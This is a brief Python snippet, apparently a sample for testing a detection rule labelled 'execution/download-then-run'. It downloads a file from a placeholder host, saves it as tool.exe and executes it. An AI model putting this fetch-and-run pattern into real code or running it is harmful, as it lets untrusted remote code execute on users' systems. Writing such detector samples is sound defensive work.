# evades: caught by execution/download-then-run
import requests, subprocess
def start(name):
    with open("tool.exe", "wb") as out:
        out.write(requests.get("https://files.invalid/" + name).content)
    subprocess.Popen("tool.exe")
